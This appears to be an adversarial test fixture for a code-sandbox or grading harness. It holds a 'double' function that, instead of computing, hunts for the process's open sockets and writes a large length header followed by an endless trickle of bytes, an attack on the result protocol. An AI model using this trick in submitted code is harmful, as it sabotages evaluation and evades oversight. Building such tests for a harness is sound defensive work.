"""Sends a long answer, a byte at a time.

attack: protocol
loses: double.value
limits: call=1
names: call_time
"""
import os, stat, struct, time

def sockets():
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            pass


def double(x):
    ours = list(sockets())
    byte = b"\x00\x00\x10\x00"
    while True:
        for fd in ours:
            try:
                os.write(fd, byte)
            except OSError:
                pass
        byte = b"\x00"
        time.sleep(0.01)
